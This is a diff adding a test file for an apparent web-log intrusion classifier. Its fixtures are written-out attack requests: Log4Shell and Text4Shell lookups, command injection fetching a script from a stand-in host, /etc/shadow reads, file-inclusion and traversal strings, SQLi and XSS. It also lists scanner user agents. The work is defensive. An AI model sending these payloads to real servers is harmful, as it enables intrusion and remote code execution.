@@ -1,0 +1,294 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { BUILTIN_RULES, CATEGORY_INFO } from '../../../lambdas/core/rules/builtin.js';
+import { Classifier, MAX_DECODE_PASSES, MAX_DECOY_EXTENSIONS, MAX_THRESHOLD_SECONDS, decodeFully } from '../../../lambdas/core/rules/engine.js';
+import { EXPLOITED_PRODUCTS } from '../../../lambdas/core/rules/exploited-products.js';
+import { SCANNER_MARKERS, SCANNER_TOOLS } from '../../../lambdas/core/rules/scanner-tools.js';
+import type { Rule } from '../../../lambdas/core/rules/types.js';
+import { scanLines } from '../../support/detector.js';
+import { record, timeAt } from '../../support/records.js';
+
+const classifier = new Classifier(BUILTIN_RULES);
+type Input = Parameters<typeof record>[0];
+const categories = (input: Input) =>
+  classifier
+    .classify(record(input))
+    .labels.map((l) => l.category)
+    .sort();
+
+/** [name, request, expected category, alerts on its own] */
+type Case = [name: string, input: Input, category: string, immediate: boolean];
+
+const exploits: Case[] = [
+  ['Log4Shell via ${dns:} in X-Forwarded-For-like referer', { request: 'GET / HTTP/1.1', referer: '${dns:${hostName}.c9q2.example.net}' }, 'log4shell', true],
+  [
+    'Log4Shell double-encoded in the query',
+    { request: 'GET /search?q=%2524%257Bjndi:ldap://198.51.100.20:1389/Exploit%257D HTTP/1.1', status: 400 },
+    'log4shell',
+    true,
+  ],
+  ['Log4Shell with an encoded capital', { request: 'GET /?x=$%7B%4ANDI:ldap://198.51.100.20/a%7D HTTP/1.1' }, 'log4shell', true],
+  ['Log4Shell ${ldap:} lookup in the user agent', { request: 'GET / HTTP/1.1', ua: '${ldap://198.51.100.20:1389/a}' }, 'log4shell', true],
+  [
+    'Text4Shell',
+    { request: 'GET /lookup?name=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime().exec(%27touch%20%2Ftmp%2Fx%27)%7D HTTP/1.1' },
+    'text4shell',
+    true,
+  ],
+  [
+    'Spring4Shell',
+    { request: 'GET /app?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp HTTP/1.1', status: 400 },
+    'rce-probe',
+    true,
+  ],
+  [
+    'shell substitution $(…)',
+    { request: 'GET /cgi-bin/diag?host=127.0.0.1%3B%24(wget%20http%3A%2F%2F198.51.100.9%2Fx.sh) HTTP/1.1', status: 404 },
+    'command-injection',
+    true,
+  ],
+  ['shell ${IFS}', { request: 'GET /api/ping?ip=1.1.1.1;cat${IFS}/etc/shadow HTTP/1.1', status: 404 }, 'command-injection', true],
+  ['backticks', { request: 'GET /status?dev=`id` HTTP/1.1', status: 404 }, 'command-injection', true],
+  ['PHP code in a parameter', { request: 'GET /index.php?lang=%3C%3Fphp%20echo%20md5(1)%3B%3F%3E HTTP/1.1' }, 'command-injection', true],
+  ['php:// wrapper', { request: 'GET /index.php?page=php://filter/read=convert.base64-encode/resource=config HTTP/1.1' }, 'file-inclusion', true],
+  ['expect:// wrapper', { request: 'GET /index.php?file=expect%3A%2F%2Fid HTTP/1.1' }, 'file-inclusion', true],
+  ['data:// wrapper', { request: 'GET /?inc=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg== HTTP/1.1' }, 'file-inclusion', true],
+  ['remote file inclusion', { request: 'GET /index.php?page=http://198.51.100.9/shell.txt? HTTP/1.1', status: 404 }, 'file-inclusion', false],
+  ['/proc/self/environ', { request: 'GET /index.php?view=../../../../proc/self/environ HTTP/1.1' }, 'path-traversal', true],
+  ['overlong UTF-8 traversal', { request: 'GET /..%c0%af..%c0%af..%c0%afetc/passwd HTTP/1.1', status: 400 }, 'path-traversal', true],
+  ['Tomcat /..;/ bypass', { request: 'GET /app/..;/manager/html HTTP/1.1', status: 404 }, 'path-traversal', true],
+  ['CVE-2021-41773 /.%2e/', { request: 'GET /icons/.%2e/%2e%2e/%2e%2e/bin/sh HTTP/1.1', status: 400 }, 'path-traversal', true],
+  ['%%32%65 double encoding', { request: 'GET /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh HTTP/1.1', status: 400 }, 'path-traversal', true],
+  ['....// traversal', { request: 'GET /download?f=....//....//app/config.ini HTTP/1.1', status: 400 }, 'path-traversal', false],
+  ['backslash traversal', { request: 'GET /static/..%5c..%5cweb.config HTTP/1.1', status: 400 }, 'path-traversal', false],
+  ['CONNECT to SMTP', { request: 'CONNECT mx.example.net:25 HTTP/1.1', status: 405 }, 'proxy-probe', true],
+  ['Code Red', { request: `GET /default.ida?${'N'.repeat(224)}%u9090%u6858%ucbd3%u7801 HTTP/1.0`, status: 400 }, 'worm', true],
+  ['DFind', { request: 'GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1', status: 400 }, 'worm', true],
+  ['Citrix CVE-2023-3519', { request: 'GET /gwtest/formssso?event=start&target=x HTTP/1.1', status: 404 }, 'product-exploit', true],
+  [
+    'Confluence CVE-2023-22515',
+    { request: 'GET /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false HTTP/1.1', status: 404 },
+    'product-exploit',
+    true,
+  ],
+  ['VMware vCenter CVE-2021-21972', { request: 'GET /ui/vropspluginui/rest/services/uploadova HTTP/1.1', status: 404 }, 'product-exploit', true],
+  ['Drupalgeddon 2', { request: 'GET /?q=user/password&name%5B%23post_render%5D%5B%5D=passthru&name%5B%23markup%5D=id HTTP/1.1' }, 'product-exploit', true],
+  ['SQL injection with a newline for a space', { request: 'GET /item.php?id=-1%0aunion%0aselect%0a1,2,3 HTTP/1.1', status: 500 }, 'sqli', false],
+  ['SQL injection with comments for spaces', { request: 'GET /item.php?id=1)/**/UNION/**/ALL/**/SELECT/**/NULL-- HTTP/1.1' }, 'sqli', false],
+  ['double-encoded SQL tautology', { request: 'GET /login.php?user=admin%2527%2520or%2520%25271%2527%253D%25271 HTTP/1.1' }, 'sqli', false],
+  ['quoted numeric tautology', { request: 'GET /news?id=5%22)+and+2=2--+- HTTP/1.1' }, 'sqli', false],
+  ['double-encoded XSS', { request: 'GET /search?q=%253Csvg%2520onload%253Dalert(1)%253E HTTP/1.1' }, 'xss', false],
+  ['XSS through ontoggle', { request: 'GET /p?name=%3Cdetails%20open%20ontoggle=print()%3E HTTP/1.1' }, 'xss', false],
+  ['PAN-OS CVE-2024-0012 behind a decoy suffix', { request: 'GET /php/ztp_gate.php/.js.map HTTP/1.1', status: 404 }, 'product-exploit', true],
+];
+
+const probes: Case[] = [
+  ['backup archive answered by a catch-all redirect', { request: 'GET /backup.zip HTTP/1.1', status: 302 }, 'sensitive-file', false],
+  ['site archive, 301', { request: 'GET /site.tar.gz HTTP/1.1', status: 301 }, 'sensitive-file', false],
+  ['host-named SQL dump, 403', { request: 'GET /www.example.com.sql HTTP/1.1', status: 403 }, 'sensitive-file', false],
+  ['vim swap file', { request: 'GET /.config.php.swp HTTP/1.1', status: 404 }, 'sensitive-file', false],
+  ['a missing credentials directory', { request: 'GET /credentials/aws.json HTTP/1.1', status: 404 }, 'sensitive-file', false],
+  ['wallet.dat', { request: 'GET /bitcoin/wallet.dat HTTP/1.1', status: 404 }, 'sensitive-file', false],
+  ['.env behind a decoy suffix', { request: 'GET /.env.js.map HTTP/1.1', status: 404 }, 'sensitive-file', false],
+  ['wp-config behind .css', { request: 'GET /wp-config.php.css HTTP/1.1', status: 404 }, 'sensitive-file', false],
+  ['.git with a decoy query', { request: 'GET /.git/config?x=.png HTTP/1.1', status: 404 }, 'sensitive-file', false],
+  ['phpMyAdmin behind a redirect', { request: 'GET /phpMyAdmin-5.2.1/ HTTP/1.1', status: 301 }, 'admin-interface-probe', false],
+  ['Laravel Telescope', { request: 'GET /telescope/requests HTTP/1.1', status: 404 }, 'admin-interface-probe', false],
+  ['WordPress author enumeration', { request: 'GET /?author=2 HTTP/1.1', status: 301 }, 'user-enumeration', false],
+  ['PROPFIND refused', { request: 'PROPFIND / HTTP/1.1', status: 405 }, 'webdav-probe', false],
+  ['HTTP/1.2', { request: 'GET / HTTP/1.2', status: 400 }, 'malformed-request', false],
+  ['HTTP/2.1', { request: 'GET /index.html HTTP/2.1', status: 400 }, 'malformed-request', false],
+  ['absolute URI for another host', { request: 'GET http://api.ipify.org/?format=json HTTP/1.1', status: 200 }, 'proxy-probe', false],
+  [
+    'Googlebot that probes',
+    { request: 'GET /.env HTTP/1.1', status: 404, ua: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' },
+    'sensitive-file',
+    false,
+  ],
+  [
+    'a forged monitor from the internet',
+    { ip: '198.51.100.77', request: 'GET /.git/HEAD HTTP/1.1', status: 404, ua: 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)' },
+    'sensitive-file',
+    false,
+  ],
+  ['Acunetix marker in the query', { request: 'GET /index.php?id=acunetix_wvs_security_test HTTP/1.1', status: 500 }, 'scanner-marker', false],
+  ['Interactsh domain in the referer', { request: 'GET / HTTP/1.1', referer: 'http://cf2a7x9qzk.oast.fun/' }, 'scanner-marker', false],
+  ['Burp Collaborator in the path', { request: 'GET /img?src=http://abc123.burpcollaborator.net/ HTTP/1.1', status: 404 }, 'scanner-marker', false],
+  ['ffuf', { request: 'GET /FUZZ HTTP/1.1', status: 404, ua: 'Fuzz Faster U Fool v2.1.0-dev' }, 'scanner-user-agent', false],
+  ['feroxbuster', { request: 'GET /admin.bak HTTP/1.1', status: 404, ua: 'feroxbuster/2.10.1' }, 'scanner-user-agent', false],
+  ['Hydra', { request: 'GET /admin/ HTTP/1.1', status: 401, ua: 'Mozilla/4.0 (Hydra)' }, 'scanner-user-agent', false],
+];
+
+const benign: [name: string, input: Input][] = [
+  ['a login redirect naming a sensitive word', { request: 'GET /login?came_from=/credentials HTTP/1.1', status: 200 }],
+  ['an application page named credentials', { request: 'GET /settings/credentials HTTP/1.1', status: 200 }],
+  ['a missing login page whose redirect names the sign-up page', { request: 'GET /account/login?came_from=/register HTTP/1.1', status: 404 }],
+  ['a page whose name contains a sensitive word', { request: 'GET /blog/secrets-of-sourdough HTTP/1.1', status: 404 }],
+  ['a search for a backup article', { request: 'GET /blog/2019/backup-strategies HTTP/1.1', status: 404 }],
+  ['a deep download that moved', { request: 'GET /projects/chat/chat-1.2.tar.gz HTTP/1.1', status: 301 }],
+  ['a redirect parameter with a URL', { request: 'GET /login?next=https://www.example.com/account HTTP/1.1', status: 302 }],
+  ['a jQuery question in a search box', { request: 'GET /search?q=%24(document).ready+not+firing HTTP/1.1' }],
+  ['a PROPFIND a WebDAV share answered', { request: 'PROPFIND /remote.php/dav/files/alice/ HTTP/1.1', status: 207 }],
+  ['HTTP/2.0 from a CDN', { request: 'GET / HTTP/2.0', status: 200 }],
+  ['a feed flavour', { request: 'GET /?flav=rss20 HTTP/1.1', status: 200 }],
+  ['a page number', { request: 'GET /?page=2 HTTP/1.1', status: 200 }],
+  ['a search with a quote and a number', { request: "GET /search?q=o'reilly+or+2+books HTTP/1.1", status: 200 }],
+  ['a monitor from inside on a missing path', { ip: '10.0.3.4', request: 'GET /status/health.php HTTP/1.1', status: 404, ua: 'Zabbix' }],
+];
+
+describe('rules for real traffic: exploits and probes', () => {
+  for (const [name, input, category, immediate] of [...exploits, ...probes]) {
+    it(`labels ${name} as ${category}${immediate ? ', alerting at once' : ''}`, () => {
+      const c = classifier.classify(record(input));
+      assert.ok(
+        c.labels.some((l) => l.category === category),
+        `got ${c.labels.map((l) => l.category).join(', ') || 'nothing'}`,
+      );
+      assert.equal(c.immediate !== null, immediate, `immediate: ${c.immediate?.rule.id ?? 'none'}`);
+    });
+  }
+  for (const [name, input] of benign) {
+    it(`leaves alone: ${name}`, () => {
+      const c = classifier.classify(record(input));
+      assert.deepEqual(
+        c.labels.filter((l) => l.rule.class !== 'benign').map((l) => l.rule.id),
+        [],
+      );
+    });
+  }
+
+  it('the site-own absolute URI is a probe only when the logged Host differs', () => {
+    const line = (host: string) => `203.0.113.9 - - [${timeAt(0)}] "GET http://www.example.com/ HTTP/1.1" 200 10 "-" "curl/8.5.0" ${host}`;
+    const format = 'apache:%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-agent}i" %{Host}i';
+    const own = scanLines({ a: [line('www.example.com')] }, {}, { format }).report;
+    const other = scanLines({ a: [line('shop.example.org')] }, {}, { format }).report;
+    assert.deepEqual(own.sources, []);
+    assert.deepEqual(Object.keys(other.sources[0]?.labels ?? {}), ['proxy-probe']);
+  });
+});
+
+describe('scanner and attack-tool identities', () => {
+  it('every tool, marker and exploited product names a source', () => {
+    for (const t of SCANNER_TOOLS) assert.ok(t.references.length > 0 && t.references.every((r) => r.startsWith('http')), t.name);
+    for (const m of SCANNER_MARKERS) assert.ok(m.references.length > 0, m.name);
+    for (const p of EXPLOITED_PRODUCTS) assert.ok(p.cves.every((c) => /^CVE-\d{4}-\d{4,}$/.test(c)) && p.cves.length > 0, p.id);
+  });
+
+  it('every tool the issue names is recognised by its default user agent', () => {
+    const agents = [
+      'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)',
+      'sqlmap/1.8.2#stable (https://sqlmap.org)',
+      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
+      'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
+      'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
+      'Mozilla/5.0 zgrab/0.x',
+      'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
+      'Mozilla/5.0 (Windows NT 10.0) Acunetix-WVS',
+      'Mozilla/5.0 (compatible; Netsparker)',
+      'w3af.org',
+      'Arachni/v1.5.1',
+      'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)',
+      'Nessus SOAP',
+      'gobuster/3.6',
+      'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
+      'Wfuzz/3.1.0',
+      'Havij',
+      'ZmEu',
+      'Morfeus Fucking Scanner',
+      'Mozilla/5.0 Jorgee',
+    ];
+    for (const ua of agents) assert.ok(categories({ request: 'GET / HTTP/1.1', ua }).includes('scanner-user-agent'), ua);
+  });
+
+  it('tool evidence carries a threshold of a few requests over a day, whatever the status', () => {
+    for (const id of ['scanner-agent', 'scanner-marker']) {
+      const rule = BUILTIN_RULES.find((r) => r.id === id);
+      assert.deepEqual(rule?.threshold, { count: 3, windowSeconds: 86_400 }, id);
+      assert.equal(rule?.match.status, undefined, id);
+    }
+    const c = classifier.classify(record({ request: 'GET /robots.txt HTTP/1.1', status: 200, ua: 'sqlmap/1.8.2#stable (https://sqlmap.org)' }));
+    assert.equal(c.score, 25);
+    assert.equal(c.labels[0]?.rule.threshold?.count, 3);
+  });
+
+  it('every new category has alert wording', () => {
+    for (const r of BUILTIN_RULES) if (r.class !== 'benign') assert.ok(CATEGORY_INFO[r.category], r.category);
+  });
+});
+
+describe('benign labels explain requests, never sources', () => {
+  it('idle connections and missing assets do not cancel the same source’s exploit', () => {
+    const ip = '198.51.100.60';
+    const lines = [
+      ...Array.from({ length: 20 }, (_, i) => `${ip} - - [${timeAt(i)}] "-" 408 0 "-" "-"`),
+      ...Array.from({ length: 20 }, (_, i) => `${ip} - - [${timeAt(20 + i)}] "GET /img/a${i}.png HTTP/1.1" 404 0 "-" "Mozilla/5.0"`),
+      `${ip} - - [${timeAt(50)}] "GET /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1" 200 10 "-" "Mozilla/5.0"`,
+    ];
+    const { report } = scanLines({ a: lines });
+    assert.equal(report.alerts.length, 1);
+    assert.equal(report.alerts[0]?.trigger, 'signature:spring4shell');
+  });
+
+  it('a health-check user agent cancels probes only from an internal peer', () => {
+    const ua = 'ELB-HealthChecker/2.0';
+    assert.deepEqual(categories({ ip: '10.0.1.5', request: 'GET /.env HTTP/1.1', status: 404, ua }), ['health-check']);
+    assert.deepEqual(categories({ ip: '198.51.100.5', request: 'GET /.env HTTP/1.1', status: 404, ua }), ['sensitive-file']);
+  });
+});
+
+describe('floods', () => {
+  it('random bare queries on the home page from rotating user agents cross the cache-busting threshold', () => {
+    const agents = ['Mozilla/5.0 (Windows NT 10.0) Chrome/120.0', 'Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0', 'Mozilla/5.0 (Macintosh) Safari/605.1.15'];
+    const lines = Array.from(
+      { length: 40 },
+      (_, i) => `198.51.100.62 - - [${timeAt(i)}] "GET /?${(0x9a3f00 + i * 7919).toString(36)}k${i}x HTTP/1.1" 200 5120 "-" "${agents[i % 3]}"`,
+    );
+    const { report } = scanLines({ a: lines });
+    assert.equal(report.alerts[0]?.trigger, 'threshold:cache-busting');
+  });
+});
+
+describe('a user agent is not evidence of innocence', () => {
+  const wordlist = (ip: string, ua: string) =>
+    Array.from({ length: 12 }, (_, i) => `${ip} - - [${timeAt(i * 3)}] "GET /w${i}/index HTTP/1.1" 404 0 "-" "${ua}"`);
+
+  it('a monitor user agent from the internet does not hide a word-list scan', () => {
+    const { report } = scanLines({ a: wordlist('198.51.100.61', 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)') });
+    assert.equal(report.alerts[0]?.trigger, 'error-burst');
+  });
+
+  it('the same from an internal monitor stays benign', () => {
+    const { report } = scanLines({ a: wordlist('10.0.4.9', 'kube-probe/1.29') });
+    assert.equal(report.alerts.length, 0);
+  });
+});
+
+describe('decoding and file-name limits', () => {
+  it(`decodes at most ${MAX_DECODE_PASSES} times and counts input still encoded after that`, () => {
+    const limits = { decodePassesExhausted: 0, decoyExtensionsCut: 0 };
+    assert.equal(decodeFully('%252e%252e%252f', limits), '../');
+    assert.equal(limits.decodePassesExhausted, 0);
+    const deep = `%${'25'.repeat(MAX_DECODE_PASSES + 1)}2e`;
+    assert.match(decodeFully(deep, limits), /%/);
+    assert.equal(limits.decodePassesExhausted, 1);
+  });
+
+  it(`cuts at most ${MAX_DECOY_EXTENSIONS} decoy extensions and counts names with more`, () => {
+    const c = new Classifier(BUILTIN_RULES);
+    const label = (path: string) =>
+      c
+        .classify(record({ request: `GET ${path} HTTP/1.1`, status: 404 }))
+        .labels.map((l) => l.rule.id)
+        .filter((id) => id === 'secret-file');
+    assert.deepEqual(label('/.env.a.b.c'), ['secret-file']);
+    assert.equal(c.limits.decoyExtensionsCut, 0);
+    assert.deepEqual(label('/.env.a.b.c.d'), []);
+    assert.equal(c.limits.decoyExtensionsCut, 1);
+  });
+
+  it(`refuses a threshold window longer than ${MAX_THRESHOLD_SECONDS} s`, () => {
+    const rule: Rule = { id: 'x', category: 'x', class: 'abuse', severity: 'low', score: 1, explain: 'a long window', match: { status: ['401'] } };
+    assert.doesNotThrow(() => new Classifier([{ ...rule, threshold: { count: 3, windowSeconds: MAX_THRESHOLD_SECONDS } }]));
+    assert.throws(() => new Classifier([{ ...rule, threshold: { count: 3, windowSeconds: MAX_THRESHOLD_SECONDS + 1 } }]), /threshold/);
+  });
+});
